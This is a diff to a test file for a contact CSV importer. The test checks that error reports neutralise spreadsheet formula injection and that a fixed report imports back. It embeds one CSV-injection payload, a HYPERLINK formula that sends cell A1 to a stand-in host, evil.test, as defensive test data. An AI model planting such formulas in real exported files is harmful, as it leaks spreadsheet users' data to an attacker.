@@ -7,6 +7,8 @@ import { makeTenant } from "@/db/testing/fixtures";
 import { useTestDb } from "@/db/testing/test-db";
 import { ingest } from "@/lib/ingest/ingest";
 import { createImport } from "./create-import";
+import { stringify } from "csv-stringify/sync";
+import { spreadsheetSafe } from "@/lib/csv/spreadsheet-safe";
 import { errorReportStream } from "./error-report";
 import { splitOnLines } from "./file-bytes";
 import { findImportOrThrow } from "./find-import-or-throw";
@@ -113,9 +115,35 @@ describe("a file with bad rows", () => {
         line[0],
         CONTACT_HEADER[BAD_CELLS[kind].column],
         BAD_CELLS[kind].message,
-        ...original,
+        // Phone numbers start with "+": written so a spreadsheet shows them as text.
+        ...original.map(spreadsheetSafe),
       ]);
     }
+  });
+
+  it("writes no cell a spreadsheet would run as a formula, and a fixed report imports back", async () => {
+    const u = await makeTenant("Formula");
+    const attack = '=HYPERLINK("http://evil.test/?"&A1,"open")';
+    const rows = contactsCsv(3, { 2: "email" }).split("\n");
+    const cells = rows[1]!.split(",");
+    cells[CONTACT_HEADER.indexOf("first_name")] = `"${attack.replaceAll('"', '""')}"`;
+    rows[1] = cells.join(",");
+    const reportId = await uploadAndStart(u, rows.join("\n"));
+    await runQueue();
+    const [, line] = await reportOf(u, reportId);
+    const cellsOut = line!.slice(3);
+    expect(cellsOut[CONTACT_HEADER.indexOf("first_name")]).toBe(`'${attack}`);
+    for (const cell of line!) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    // Fix the email in the report and import it again: the guards are read back as the text.
+    const fixed = [...cellsOut];
+    fixed[CONTACT_HEADER.indexOf("email")] = "fixed@example.com";
+    const again = await uploadAndStart(u, stringify([CONTACT_HEADER, fixed]));
+    await runQueue();
+    expect(await state(u, again)).toMatchObject({ importedRows: 1, failedRows: 0 });
+    const [c] = await queryRows(
+      sql`select phone, attributes->>'firstName' as "firstName" from contacts where workspace_id = ${u.workspace.id} and email = 'fixed@example.com'`,
+    );
+    expect(c).toEqual({ phone: contactRow(1)[CONTACT_HEADER.indexOf("phone")], firstName: attack });
   });
 
   it("keeps tenants apart", async () => {
